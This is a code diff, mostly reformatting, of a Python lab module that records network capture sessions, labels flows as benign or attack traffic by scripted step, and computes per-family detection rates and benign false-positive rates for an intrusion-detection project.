+        "t_capture_end": t1,
+        "setup_s": round(setup_s, 2),
+        "steps": steps,
+        "tcpdump": stats,
+        "clients": {n: plan.hosts[n].ip for n in plan.clients},
+        "servers": dict(SERVERS),
+    }
 
 # %% ../nbs/14_lab.ipynb #f589c3ed
 GRACE_BEFORE_S, GRACE_AFTER_S = 0.5, 2.0
@@ -1203,7 +1590,9 @@ def label_flows(flows: pd.DataFrame, record: dict, session: str) -> tuple[pd.Dat
     "Attribute each flow to a step of `record` (or to benign traffic): (labelled flows, unattributed flows with `reason`)."
     t = flows["bidirectional_first_seen_ms"].to_numpy("float64") / 1000.0
     n = len(flows)
-    rows = [(a, i, s["t_start"] - GRACE_BEFORE_S, s["t_end"] + GRACE_AFTER_S) for i, s in enumerate(record["steps"]) for a in s["addresses"]]
+    rows = [
+        (a, i, s["t_start"] - GRACE_BEFORE_S, s["t_end"] + GRACE_AFTER_S) for i, s in enumerate(record["steps"]) for a in s["addresses"]
+    ]
     win = pd.DataFrame(rows, columns=["addr", "k", "lo", "hi"])
     hits = []
     for end in ("src_ip", "dst_ip"):
@@ -1241,7 +1630,7 @@ def label_flows(flows: pd.DataFrame, record: dict, session: str) -> tuple[pd.Dat
     return out[keep].reset_index(drop=True), unattributed.reset_index(drop=True)
 
 
-LAB_SEQUENCE = 32   # packets per flow kept as a sequence (splt columns) in every lab session
+LAB_SEQUENCE = 32  # packets per flow kept as a sequence (splt columns) in every lab session
 
 
 def meter_capture(pcap, *, splt: int = LAB_SEQUENCE, **kw) -> pd.DataFrame:
@@ -1254,15 +1643,46 @@ def _ground_truth(record: dict, session: str) -> pd.DataFrame:
     rows = []
     for s in record["steps"]:
         for a, h in zip(s["addresses"], s["hosts"]):
-            rows.append({"session": session, "step": s["name"], "family": s["family"], "tool": s["tool"], "variant": s["variant"],
-                         "address": a, "host": h, "role": "client" if s["family"] == "benign" else "c2" if h.endswith("c2") else "attacker", "target": s["target"],
-                         "t_start": s["t_start"], "t_end": s["t_end"], "status": s["status"],
-                         "exit_codes": json.dumps(s["exit_codes"]), "error": s["error"] or "", "command": " && ".join(s["commands"])})
+            rows.append(
+                {
+                    "session": session,
+                    "step": s["name"],
+                    "family": s["family"],
+                    "tool": s["tool"],
+                    "variant": s["variant"],
+                    "address": a,
+                    "host": h,
+                    "role": "client" if s["family"] == "benign" else "c2" if h.endswith("c2") else "attacker",
+                    "target": s["target"],
+                    "t_start": s["t_start"],
+                    "t_end": s["t_end"],
+                    "status": s["status"],
+                    "exit_codes": json.dumps(s["exit_codes"]),
+                    "error": s["error"] or "",
+                    "command": " && ".join(s["commands"]),
+                }
+            )
     for role, hosts in (("client", record["clients"]), ("server", record["servers"])):
         for h, a in hosts.items():
-            rows.append({"session": session, "step": "benign", "family": "benign", "tool": "clients" if role == "client" else "server",
-                         "variant": "", "address": a, "host": h, "role": role, "target": "", "t_start": record["t_start"],
-                         "t_end": record["t_capture_end"], "status": "ok", "exit_codes": "[]", "error": "", "command": ""})
+            rows.append(
+                {
+                    "session": session,
+                    "step": "benign",
+                    "family": "benign",
+                    "tool": "clients" if role == "client" else "server",
+                    "variant": "",
+                    "address": a,
+                    "host": h,
+                    "role": role,
+                    "target": "",
+                    "t_start": record["t_start"],
+                    "t_end": record["t_capture_end"],
+                    "status": "ok",
+                    "exit_codes": "[]",
+                    "error": "",
+                    "command": "",
+                }
+            )
     return pd.DataFrame(rows)
 
 
@@ -1271,22 +1691,33 @@ def session_name(scenario: Scenario, seed: int) -> str:
     return f"{scenario.name}-seed{seed}"
 
 # %% ../nbs/14_lab.ipynb #7616c5ee
-def record_session(scenario: Scenario | str | Path, out_dir, *, seed: int = 0, inject_crash: str | None = None,
-                   keep_work: bool = False) -> dict:
+def record_session(
+    scenario: Scenario | str | Path, out_dir, *, seed: int = 0, inject_crash: str | None = None, keep_work: bool = False
+) -> dict:
     "Record one lab session into `out_dir` (capture.pcap, labels.parquet, flows.parquet, unattributed.parquet, session.json)."
     sc = scenario if isinstance(scenario, Scenario) else load_scenario(scenario)
     if inject_crash is not None:
         names = [s.name or f"s{i:02d}-{s.family}-{s.tool}" for i, s in enumerate(sc.steps, start=1)]
-        if inject_crash not in names: raise ScenarioError(f"inject_crash: no step named '{inject_crash}'; steps: {', '.join(names)}")
-    out = Path(out_dir).resolve()          # tcpdump runs in another namespace and folder: give it an absolute path
+        if inject_crash not in names:
+            raise ScenarioError(f"inject_crash: no step named '{inject_crash}'; steps: {', '.join(names)}")
+    out = Path(out_dir).resolve()  # tcpdump runs in another namespace and folder: give it an absolute path
     out.mkdir(parents=True, exist_ok=True)
     run_id = secrets.token_hex(3)
     check_available(plan_session(sc, seed, Path("/nonexistent")).binaries())
     work = Path(tempfile.mkdtemp(prefix=f"cyber-moe-lab-{run_id}-"))
     plan = plan_session(sc, seed, work)
     session = session_name(sc, seed)
-    info = {"status": "running", "run_id": run_id, "pid": os.getpid(), "namespace_prefix": f"{NS_PREFIX}{run_id}-",
-            "work": str(work), "scenario": sc.model_dump(), "seed": seed, "session": session, "started": time.time()}
+    info = {
+        "status": "running",
+        "run_id": run_id,
+        "pid": os.getpid(),
+        "namespace_prefix": f"{NS_PREFIX}{run_id}-",
+        "work": str(work),
+        "scenario": sc.model_dump(),
+        "seed": seed,
+        "session": session,
+        "started": time.time(),
+    }
     (out / "session.json").write_text(json.dumps(info, indent=1, default=str))
     clock = time.perf_counter()
     try:
@@ -1295,7 +1726,8 @@ def record_session(scenario: Scenario | str | Path, out_dir, *, seed: int = 0, i
     except BaseException as e:
         info.update(status="interrupted" if isinstance(e, KeyboardInterrupt) else "error", error=f"{type(e).__name__}: {e}")
         (out / "session.json").write_text(json.dumps(info, indent=1, default=str))
-        if not keep_work: shutil.rmtree(work, ignore_errors=True)
+        if not keep_work:
+            shutil.rmtree(work, ignore_errors=True)
         raise
     lab_s = time.perf_counter() - clock
     clock = time.perf_counter()
@@ -1309,20 +1741,48 @@ def record_session(scenario: Scenario | str | Path, out_dir, *, seed: int = 0, i
     _ground_truth(record, session).to_parquet(out / "labels.parquet", index=False)
     failed = [s["name"] for s in record["steps"] if s["status"] == "failed"]
     per_step = labelled["step"].value_counts()
-    for s in record["steps"]: s["n_flows"] = int(per_step.get(s["name"], 0))
+    for s in record["steps"]:
+        s["n_flows"] = int(per_step.get(s["name"], 0))
     silent = [s["name"] for s in record["steps"] if s["n_flows"] == 0]
-    if silent: log.warning("lab session %s: step(s) that made no flow: %s", session, ", ".join(silent))
-    info.update(status="ok" if not failed else "failed_steps", failed_steps=failed, silent_steps=silent,
-                steps=[{k: s[k] for k in ("name", "family", "tool", "variant", "status", "exit_codes", "error", "t_start", "t_end", "target",
-                                          "intensity", "n_flows")}
-                       for s in record["steps"]],
-                capture_s=round(record["t_capture_end"] - record["t_start"], 2), setup_s=record["setup_s"], lab_s=round(lab_s, 2),
-                meter_s=round(meter_s, 2), tcpdump=record["tcpdump"], n_packets=flows.attrs.get("nfstream", {}).get("n_packets"),
-                n_flows=len(labelled), n_unattributed=len(unattributed),
-                unattributed_reasons=unattributed["reason"].value_counts().to_dict() if len(unattributed) else {},
-                families=labelled[FAMILY].value_counts().to_dict(),
-                tools=labelled.groupby([FAMILY, "tool"]).size().rename("n").reset_index().to_dict("records"),
-                finished=time.time())
+    if silent:
+        log.warning("lab session %s: step(s) that made no flow: %s", session, ", ".join(silent))
+    info.update(
+        status="ok" if not failed else "failed_steps",
+        failed_steps=failed,
+        silent_steps=silent,
+        steps=[
+            {
+                k: s[k]
+                for k in (
+                    "name",
+                    "family",
+                    "tool",
+                    "variant",
+                    "status",
+                    "exit_codes",
+                    "error",
+                    "t_start",
+                    "t_end",
+                    "target",
+                    "intensity",
+                    "n_flows",
+                )
+            }
+            for s in record["steps"]
+        ],
+        capture_s=round(record["t_capture_end"] - record["t_start"], 2),
+        setup_s=record["setup_s"],
+        lab_s=round(lab_s, 2),
+        meter_s=round(meter_s, 2),
+        tcpdump=record["tcpdump"],
+        n_packets=flows.attrs.get("nfstream", {}).get("n_packets"),
+        n_flows=len(labelled),
+        n_unattributed=len(unattributed),
+        unattributed_reasons=unattributed["reason"].value_counts().to_dict() if len(unattributed) else {},
+        families=labelled[FAMILY].value_counts().to_dict(),
+        tools=labelled.groupby([FAMILY, "tool"]).size().rename("n").reset_index().to_dict("records"),
+        finished=time.time(),
+    )
     (out / "session.json").write_text(json.dumps(info, indent=1, default=str))
     return info
 
@@ -1332,8 +1792,9 @@ def read_session(out_dir) -> tuple[pd.DataFrame, dict]:
     out = Path(out_dir)
     js, pq = out / "session.json", out / "flows.parquet"
     if not js.is_file() or not pq.is_file():
-        raise FileNotFoundError(f"{out}: not a recorded lab session (needs session.json and flows.parquet; "
-                                "record one with `cyber-moe lab record`)")
+        raise FileNotFoundError(
+            f"{out}: not a recorded lab session (needs session.json and flows.parquet; record one with `cyber-moe lab record`)"
+        )
     info = json.loads(js.read_text())
     if info.get("status") not in ("ok", "failed_steps"):
         raise FileNotFoundError(f"{out}: the session did not finish (status {info.get('status')!r}); record it again")
@@ -1342,14 +1803,20 @@ def read_session(out_dir) -> tuple[pd.DataFrame, dict]:
 # %% ../nbs/14_lab.ipynb #c2258e88
 def _recorded(folder: Path, sc: Scenario, seed: int) -> bool:
     js = folder / "session.json"
-    if not js.is_file() or not (folder / "flows.parquet").is_file(): return False
+    if not js.is_file() or not (folder / "flows.parquet").is_file():
+        return False
     info = json.loads(js.read_text())
-    return info.get("status") in ("ok", "failed_steps") and info.get("seed") == seed and info.get("scenario") == json.loads(json.dumps(sc.model_dump(), default=str))
+    return (
+        info.get("status") in ("ok", "failed_steps")
+        and info.get("seed") == seed
+        and info.get("scenario") == json.loads(json.dumps(sc.model_dump(), default=str))
+    )
 
 
 def ensure_sessions(scenario, seeds: list[int], root, *, python: str | None = None) -> list[Path]:
     "Folders of the sessions of `scenario` for `seeds` under `root`, recording the missing ones in parallel."
     import sys
+
     path = Path(scenario)
     sc = load_scenario(path)
     check_available(plan_session(sc, 0, Path("/nonexistent")).binaries())
@@ -1360,33 +1827,65 @@ def ensure_sessions(scenario, seeds: list[int], root, *, python: str | None = No
     try:
         for s, f in todo:
             shutil.rmtree(f, ignore_errors=True)
-            argv = [python or sys.executable, "-c", "import sys; from cyber_moe.cli import main; sys.exit(main(sys.argv[1:]))",
-                    "lab", "record", "--scenario", str(path), "--out", str(f), "--seed", str(s)]
+            argv = [
+                python or sys.executable,
+                "-c",
+                "import sys; from cyber_moe.cli import main; sys.exit(main(sys.argv[1:]))",
+                "lab",
+                "record",
+                "--scenario",
+                str(path),
+                "--out",
+                str(f),
+                "--seed",
+                str(s),
+            ]
             log.info("recording lab session %s (seed %d) into %s", sc.name, s, f)
             procs.append((s, f, subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)))
         for s, f, p in procs:
             out, err = p.communicate()
-            if p.returncode == 3: raise LabUnavailable(err.strip().splitlines()[-1] if err.strip() else "the lab cannot run here")
-            if p.returncode == 1: log.warning("lab session %s seed %d: %s", sc.name, s, err.strip().splitlines()[-1])
+            if p.returncode == 3:
+                raise LabUnavailable(err.strip().splitlines()[-1] if err.strip() else "the lab cannot run here")
+            if p.returncode == 1:
+                log.warning("lab session %s seed %d: %s", sc.name, s, err.strip().splitlines()[-1])
             elif p.returncode != 0:
                 raise RuntimeError(f"recording lab session {sc.name} seed {s} failed (exit {p.returncode}): {err.strip()[-600:]}")
     except BaseException:
         for _, _, p in procs:
-            if p.poll() is None: p.send_signal(signal.SIGTERM)
+            if p.poll() is None:
+                p.send_signal(signal.SIGTERM)
         for _, _, p in procs:
-            with contextlib.suppress(subprocess.TimeoutExpired): p.wait(30)
+            with contextlib.suppress(subprocess.TimeoutExpired):
+                p.wait(30)
         raise
     return folders
 
-
+# %% ../nbs/14_lab.ipynb #a4807094
 def load_sessions(folders: list[Path]) -> tuple[pd.DataFrame, dict]:
     "The labelled flows of recorded session folders, one frame (in folder order), and a description of each session."
     frames, desc = [], []
     for f in folders:
         flows, info = read_session(f)
         frames.append(flows)
-        desc.append({k: info.get(k) for k in ("session", "run_id", "seed", "status", "failed_steps", "capture_s", "n_flows",
-                                              "n_unattributed", "unattributed_reasons", "families", "tcpdump")} | {"folder": str(f)})
+        desc.append(
+            {
+                k: info.get(k)
+                for k in (
+                    "session",
+                    "run_id",
+                    "seed",
+                    "status",
+                    "failed_steps",
+                    "capture_s",
+                    "n_flows",
+                    "n_unattributed",
+                    "unattributed_reasons",
+                    "families",
+                    "tcpdump",
+                )
+            }
+            | {"folder": str(f)}
+        )
     return pd.concat(frames, ignore_index=True), {"sessions": desc}
 
 # %% ../nbs/14_lab.ipynb #44354a21
@@ -1396,14 +1895,25 @@ LAB_TARGETS = {"family_detection_min": 0.90, "benign_fpr_max": 0.01}
 def detection_rates(rows: pd.DataFrame, flagged) -> dict:
     "Flagged share of each family's and each family/tool's flows, the benign false-positive rate, and the lab targets met."
     fl = np.asarray(flagged, bool)
-    if len(fl) != len(rows): raise ValueError(f"detection_rates: {len(fl)} verdicts for {len(rows)} rows")
+    if len(fl) != len(rows):
+        raise ValueError(f"detection_rates: {len(fl)} verdicts for {len(rows)} rows")
     fam = rows[FAMILY].astype(str).to_numpy()
     tool = rows["tool"].astype(str).to_numpy() if "tool" in rows.columns else np.full(len(rows), "")
-    def share(mask): n = int(mask.sum()); k = int(fl[mask].sum()); return {"n": n, "flagged": k, "rate": k / n if n else None}
+
+    def share(mask):
+        n = int(mask.sum())
+        k = int(fl[mask].sum())
+        return {"n": n, "flagged": k, "rate": k / n if n else None}
+
     fams = {f: share(fam == f) for f in sorted(set(fam))}
     tools = {f"{f}/{t}": share((fam == f) & (tool == t)) for f, t in sorted(set(zip(fam, tool))) if f != "benign"}
     attack = {f: v for f, v in fams.items() if f != "benign"}
     fpr = fams.get("benign", {}).get("rate")
-    return {"families": fams, "tools": tools, "benign_fpr": fpr, "targets": dict(LAB_TARGETS),
-            "families_below_target": sorted(f for f, v in attack.items() if v["rate"] < LAB_TARGETS["family_detection_min"]),
-            "fpr_met": fpr is not None and fpr <= LAB_TARGETS["benign_fpr_max"]}
+    return {
+        "families": fams,
+        "tools": tools,
+        "benign_fpr": fpr,
+        "targets": dict(LAB_TARGETS),
+        "families_below_target": sorted(f for f, v in attack.items() if v["rate"] < LAB_TARGETS["family_detection_min"]),
+        "fpr_met": fpr is not None and fpr <= LAB_TARGETS["benign_fpr_max"],
+    }
